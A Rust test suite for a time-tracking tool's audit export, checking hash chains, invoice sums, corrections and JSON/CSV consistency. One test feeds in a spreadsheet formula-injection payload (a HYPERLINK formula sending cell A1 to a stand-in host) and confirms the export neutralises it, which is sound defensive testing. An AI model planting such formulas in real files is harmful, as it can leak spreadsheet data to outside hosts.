//! The auditor's export, walked with nothing but a CSV reader, a JSON reader and SHA-256.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use serde_json::Value;
use sha2::{Digest as _, Sha256};
use stundenbuch::statements::{self, Wanted};
use stundenbuch_connectors::clock::Clock as _;

use super::commands::{Desk, text};
use crate::night::drift;
use crate::night::house::{House, stundenbuch};
use crate::night::statements::{WEEK, seal};

/// A row by the names of its columns.
type Row = BTreeMap<String, String>;

/// Reads a table as its guide says: semicolons, and one apostrophe that is left away from texts.
fn table(directory: &Path, name: &str) -> Vec<Row> {
    let path = directory.join(format!("{name}.csv"));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_path(&path)
        .unwrap();
    let header = reader.headers().unwrap().clone();
    let rows = reader.records().map(|record| {
        let record = record.unwrap();
        let cell = |cell: &str| cell.strip_prefix('\'').unwrap_or(cell).to_owned();
        let cells = header.iter().zip(&record);
        cells
            .map(|(name, text)| (name.to_owned(), cell(text)))
            .collect()
    });
    rows.collect()
}

fn hex(bytes: impl AsRef<[u8]>) -> String {
    let bytes = bytes.as_ref().iter();
    bytes.fold(String::new(), |text, byte| text + &format!("{byte:02x}"))
}

fn sha(text: &str) -> String {
    hex(Sha256::digest(text.as_bytes()))
}

fn bytes(hex: &str) -> Vec<u8> {
    let pairs = hex.as_bytes().chunks(2);
    pairs
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
        .collect()
}

/// `1234.50` as 123450.
fn cents(text: &str) -> i128 {
    let (whole, fraction) = text.split_once('.').unwrap();
    assert_eq!(fraction.len(), 2, "{text}");
    format!("{whole}{fraction}").parse().unwrap()
}

/// A rate in ten-thousandths.
fn rate(text: &str) -> i128 {
    let (whole, fraction) = text.split_once('.').unwrap();
    format!("{whole}{fraction:0<4}").parse().unwrap()
}

fn number(row: &Row, column: &str) -> i128 {
    row[column].parse().unwrap()
}

/// Recomputes the chain from the columns alone; the hash of each row.
fn chain(directory: &Path) -> BTreeMap<String, String> {
    let mut before = vec![0; 32];
    let mut hashes = BTreeMap::new();
    for (nth, row) in (1_u64..).zip(table(directory, "journal")) {
        let seq: u64 = row["journal_row"].parse().unwrap();
        assert_eq!(seq, nth);
        if !row["payload"].is_empty() {
            assert_eq!(sha(&row["payload"]), row["payload_sha256"], "row {seq}");
        }
        if !row["subject"].is_empty() {
            assert_eq!(sha(&row["subject"]), row["subject_sha256"], "row {seq}");
        }
        let at: i64 = row["at_seconds"].parse().unwrap();
        let mut link = before;
        link.extend(seq.to_be_bytes());
        link.extend(at.to_be_bytes());
        link.extend((row["kind"].len() as u64).to_be_bytes());
        link.extend(row["kind"].as_bytes());
        if row["subject_chained_as"] == "text" {
            link.extend((row["subject"].len() as u64).to_be_bytes());
            link.extend(row["subject"].as_bytes());
        } else {
            link.extend(bytes(&row["subject_sha256"]));
        }
        link.extend(bytes(&row["payload_sha256"]));
        before = Sha256::digest(&link).to_vec();
        assert_eq!(hex(&before), row["hash"], "row {seq}");
        hashes.insert(row["journal_row"].clone(), row["hash"].clone());
    }
    hashes
}

/// The rows of a statement.
fn of(rows: &[Row], statement: &Row) -> Vec<Row> {
    let mine = rows.iter();
    mine.filter(|row| row["statement"] == statement["statement"])
        .cloned()
        .collect()
}

fn sum(rows: &[Row], column: &str) -> i128 {
    rows.iter().map(|row| number(row, column)).sum()
}

/// Walks every amount down to what was received, and everything that was billed back up.
fn walk(directory: &Path) {
    let hashes = chain(directory);
    let statements = table(directory, "statements");
    let entries = table(directory, "entries");
    let revisions = table(directory, "revisions");
    let received: BTreeMap<String, Row> = table(directory, "received")
        .into_iter()
        .map(|row| (row["received"].clone(), row))
        .collect();
    assert!(!statements.is_empty() && !entries.is_empty());
    for statement in &statements {
        assert_eq!(hashes[&statement["printed_row"]], statement["printed_hash"]);
        adds_up(directory, statement, &of(&entries, statement));
        // What a cancellation takes back is what the other one billed.
        let reverses = !statement["cancels"].is_empty();
        let sign = if reverses { -1 } else { 1 };
        for entry in of(&entries, statement) {
            let mut states = revisions.iter();
            let revision = states.find(|it| it["journal_row"] == entry["revision"]);
            let revision = revision.unwrap();
            let seconds = sign * number(revision, "seconds");
            assert_eq!(seconds, number(&entry, "tracked_seconds"));
            assert_eq!(revision["work"], entry["work"]);
            assert!(hashes.contains_key(&revision["journal_row"]));
            let source = &received[&revision["received"]];
            assert_eq!(sha(&source["body"]), revision["received_sha256"]);
            assert_eq!(source["sha256"], revision["received_sha256"]);
        }
    }
    // And back: a state is billed by at most one statement that stands, and what was received
    // belongs to a state.
    let stand = |it: &&Row| it["cancels"].is_empty() && it["cancelled_by"].is_empty();
    let standing: Vec<Row> = statements
        .iter()
        .filter(stand)
        .flat_map(|it| of(&entries, it))
        .collect();
    let billed: BTreeSet<&str> = standing
        .iter()
        .map(|row| row["revision"].as_str())
        .collect();
    assert_eq!(billed.len(), standing.len());
    for (id, source) in &received {
        let mut named = revisions
            .iter()
            .filter(|row| row["received"] == *id)
            .peekable();
        assert!(
            named.peek().is_some(),
            "received record {id} is of no revision"
        );
        assert!(named.all(|row| row["received_sha256"] == source["sha256"]));
    }
}

/// The sums of one statement, in integers.
fn adds_up(directory: &Path, statement: &Row, entries: &[Row]) {
    let corrected = of(&table(directory, "corrected"), statement);
    let mut net = 0;
    for line in of(&table(directory, "lines"), statement) {
        let exact = number(&line, "billed_seconds") * rate(&line["rate"]);
        // Seconds × ten-thousandths: 360,000 of them are a cent; half a cent goes outwards.
        let rounded = (2 * exact.abs() + 360_000) / 720_000 * exact.signum();
        assert_eq!(rounded, cents(&line["amount"]));
        net += rounded;
        let is_mine = |row: &&Row| row["line"] == line["line"];
        let parts: Vec<Row> = entries.iter().filter(is_mine).cloned().collect();
        let mut corrections = corrected.iter().flat_map(|row| row["lines"].split(' '));
        let is_correction = corrections.any(|it| it == line["line"]);
        let tracked = sum(&parts, "tracked_seconds");
        assert!(is_correction || tracked == number(&line, "tracked_seconds"));
    }
    assert_eq!(net, cents(&statement["net"]));
    let vat = of(&table(directory, "vat"), statement);
    let tax: i128 = vat.iter().map(|row| cents(&row["vat"])).sum();
    assert_eq!(net + tax, cents(&statement["gross"]));
    let all = sum(entries, "tracked_seconds") + sum(&corrected, "tracked_seconds");
    assert_eq!(all, number(statement, "tracked_seconds"));
}

/// Every value of the JSON is the value of the table.
fn json_says_the_same(directory: &Path) {
    let text = fs::read_to_string(directory.join("audit.json")).unwrap();
    let json: Value = serde_json::from_str(&text).unwrap();
    let tables = json["tables"].as_object().unwrap();
    assert_eq!(tables.len(), 13);
    for (name, rows) in tables {
        let csv = table(directory, name);
        let rows = rows.as_array().unwrap();
        assert_eq!(rows.len(), csv.len(), "{name}");
        for (row, cells) in rows.iter().zip(&csv) {
            for (column, cell) in cells {
                let value = match &row[column] {
                    Value::Null => String::new(),
                    Value::String(text) => text.clone(),
                    number => number.to_string(),
                };
                assert_eq!(value, *cell, "{name}.{column}");
            }
        }
    }
    let last = table(directory, "journal").pop().unwrap();
    assert_eq!(json["head"]["hash"], last["hash"].as_str());
}

fn files(directory: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let entries = fs::read_dir(directory)
        .unwrap()
        .map(|entry| entry.unwrap().path());
    entries
        .map(|path| (path.file_name().unwrap().into(), fs::read(&path).unwrap()))
        .collect()
}

/// `index.xml` names the tables and columns that there are, in their order.
fn index_is_right(directory: &Path) {
    let xml = fs::read_to_string(directory.join("index.xml")).unwrap();
    let mut columns = 0;
    for (name, bytes) in files(directory) {
        if name.extension().is_none_or(|ending| ending != "csv") {
            continue;
        }
        let text = String::from_utf8(bytes).unwrap();
        let name = name.to_string_lossy();
        let at = xml.find(&format!("<URL>{name}</URL>")).unwrap();
        let mut rest = &xml[at..];
        for column in text.lines().next().unwrap().split(';') {
            let at = rest.find(&format!("<Name>{column}</Name>"));
            rest = &rest[at.unwrap_or_else(|| panic!("{name} {column}"))..];
            columns += 1;
        }
        assert!(
            !text.contains('\r') && !text.starts_with('\u{feff}'),
            "{name}"
        );
    }
    let declared = xml.matches("<VariableColumn>").count();
    let keys = xml.matches("<VariablePrimaryKey>").count();
    assert_eq!(declared + keys, columns);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_amount_leads_to_what_was_received_and_back() {
    let mut house = House::new(WEEK).await;
    house.night().await;
    for day in ["2026-08-20", "2026-08-21", "2026-08-22"] {
        seal(&mut house, day).unwrap();
    }
    house.night().await;
    let (one, two) = (
        house.dir.path().join("audit"),
        house.dir.path().join("again"),
    );
    for directory in [&one, &two] {
        let output = stundenbuch(&house, &["export", "--audit", directory.to_str().unwrap()]).await;
        let errors = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{errors}");
    }
    walk(&one);
    json_says_the_same(&one);
    index_is_right(&one);
    assert!(
        files(&one) == files(&two),
        "the same ledger gives the same bytes"
    );
    assert_eq!(table(&one, "statements").len(), 3);
    assert_eq!(table(&one, "deliveries").len(), 6);
    assert_eq!(table(&one, "configuration").len(), 5);
    let sums = fs::read_to_string(one.join("SHA256SUMS")).unwrap();
    for (name, bytes) in files(&one) {
        let mode = fs::metadata(one.join(&name)).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{}", name.display());
        if name != Path::new("SHA256SUMS") {
            let line = format!("{}  {}\n", hex(Sha256::digest(&bytes)), name.display());
            assert!(sums.contains(&line), "{line}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_part_is_whole_in_itself_and_tells_nothing_else() {
    let mut house = House::new(WEEK).await;
    house.night().await;
    for day in ["2026-08-20", "2026-08-21", "2026-08-22"] {
        seal(&mut house, day).unwrap();
    }
    let directory = house.dir.path().join("audit");
    let to = directory.to_str().unwrap();
    let args = [
        "export",
        "--audit",
        to,
        "--period",
        "2026-08-21..2026-08-21",
        "--client",
        "ahorn",
    ];
    let output = stundenbuch(&house, &args).await;
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    walk(&directory);
    json_says_the_same(&directory);
    let statements = table(&directory, "statements");
    assert_eq!(statements.len(), 1);
    assert_eq!(statements[0]["first_day"], "2026-08-21");
    let entries = table(&directory, "entries").len();
    assert_eq!(table(&directory, "revisions").len(), entries);
    // Of rows that were not selected, only the chain is told.
    let shown = |row: &&Row| row["kind"] == "revision" && !row["payload"].is_empty();
    let journal = table(&directory, "journal");
    assert_eq!(journal.iter().filter(shown).count(), entries);
    assert_eq!(journal.len() as u64, house.rows());
}

#[test]
fn formulas_are_inert_and_texts_come_back() {
    let desk = Desk::new();
    let evil = "=HYPERLINK(\"\"http://x\"\"&A1;\"\"y\"\")";
    desk.write(
        "evil.csv",
        &format!(
            "User,Email,Client,Project,Task,Description,Billable,Start date,Start time,End date,\
             End time,Duration,Tags\nJana,,Müller,+49,,\"{evil}\",Yes,2026-01-20,09:00:00,\
             2026-01-20,10:00:00,01:00:00,\n"
        ),
    );
    desk.fine(&["import", "evil.csv"]);
    desk.fine(&["statement", "seal", "mueller", "-p", "2026-01"]);
    desk.fine(&["export", "--audit", "out"]);
    let raw = fs::read_to_string(desk.path("out/entries.csv")).unwrap();
    assert!(raw.contains("\"'=HYPERLINK(\"\"http"), "{raw}");
    assert!(raw.contains(";'+49;"), "{raw}");
    let entries = table(&desk.path("out"), "entries");
    assert_eq!(entries[0]["description"], evil.replace("\"\"", "\""));
    walk(&desk.path("out"));
    json_says_the_same(&desk.path("out"));
    // A cell of any table that a spreadsheet would run.
    for (name, bytes) in files(&desk.path("out")) {
        if name.extension().is_some_and(|ending| ending == "csv") {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(b';')
                .from_reader(&bytes[..]);
            for record in reader.records() {
                for cell in &record.unwrap() {
                    let number = cell
                        .trim_start_matches('-')
                        .starts_with(|c: char| c.is_ascii_digit());
                    assert!(
                        number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                        "{}: {cell}",
                        name.display()
                    );
                }
            }
        }
    }
}

#[test]
fn an_export_of_then_is_the_one_that_was_written_then() {
    let desk = Desk::new();
    desk.fine(&["import", "first.csv"]);
    desk.fine(&["statement", "seal", "mueller", "-p", "2026-02"]);
    desk.fine(&["export", "--audit", "then"]);
    let at = text(desk.written());
    desk.fine(&["import", "second.csv"]);
    desk.fine(&["statement", "seal", "mueller", "-p", "2026-01"]);
    desk.fine(&["export", "--audit", "now"]);
    desk.fine(&["export", "--audit", "again", "--as-of", &at]);
    let [then, now, again] = ["then", "now", "again"].map(|name| files(&desk.path(name)));
    assert!(then != now);
    assert!(then == again);
}

#[test]
fn an_export_is_not_written_over_something() {
    let desk = Desk::new();
    desk.fine(&["import", "first.csv"]);
    let output = desk.run(&["export", "--audit", "drive"]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "an empty directory is taken: {output:?}"
    );
    let output = desk.run(&["export", "--audit", "drive"]);
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(
        errors,
        "error: write the export to drive: it is not empty\n\n\
         hint: name a directory that does not exist yet\n"
    );
    assert_eq!(output.status.code(), Some(2));
    for args in [
        ["export", "--audit", "x", "--client", "nobody"],
        ["export", "--client", "mueller", "-p", "2026-01"],
        ["export", "--audit", "x", "-o", "y"],
    ] {
        assert_eq!(desk.run(&args).status.code(), Some(2), "{args:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancellations_and_corrections_have_their_tables() {
    let mut house = drift::house().await;
    let long = drift::add(&house, "2026-10-15", 6, 150);
    drift::add(&house, "2026-11-01", 6, 60);
    house.night().await;
    let one = seal(&mut house, "2026-10-15").unwrap().number.unwrap();
    drift::shorten(&house, long, 30);
    house.night().await;
    let now = house.clock.now();
    let wanted = Wanted::default();
    statements::correct(&mut house.store, &house.config, &one, &wanted, now).unwrap();
    // It charges the correction, is cancelled, and the next one charges it anew.
    let two = seal(&mut house, "2026-11-01").unwrap().number.unwrap();
    let three = statements::cancel(&mut house.store, &house.config, &two, now);
    let three = three.unwrap().number.unwrap();
    let four = seal(&mut house, "2026-11-01").unwrap().number.unwrap();

    let directory = house.dir.path().join("audit");
    let output = stundenbuch(&house, &["export", "--audit", directory.to_str().unwrap()]).await;
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    walk(&directory);
    json_says_the_same(&directory);
    index_is_right(&directory);
    let of = |row: &Row| ["statement", "kind", "cancels", "cancelled_by"].map(|it| row[it].clone());
    let statements: Vec<_> = table(&directory, "statements").iter().map(of).collect();
    assert_eq!(
        statements,
        [
            [&one, "statement", "", ""],
            [&two, "statement", "", &three],
            [&three, "cancellation", &two, ""],
            [&four, "statement", "", ""],
        ]
    );
    let cancellations = table(&directory, "cancellations");
    assert_eq!(cancellations[0]["cancels"], two);
    let corrections = table(&directory, "corrections");
    assert_eq!(corrections.len(), 1);
    assert_eq!(corrections[0]["statement"], one);
    assert_eq!(corrections[0]["amount"], "-29.50");
    assert_eq!(corrections[0]["charged_by"], four);
    let corrected = table(&directory, "corrected");
    let last = corrected.last().unwrap();
    assert_eq!(last["corrected_statement"], one);
    assert_eq!(last["statement"], four);
    assert_eq!(last["tracked_seconds"], "-1800");
    assert_eq!(last["work"], corrections[0]["work"]);
}
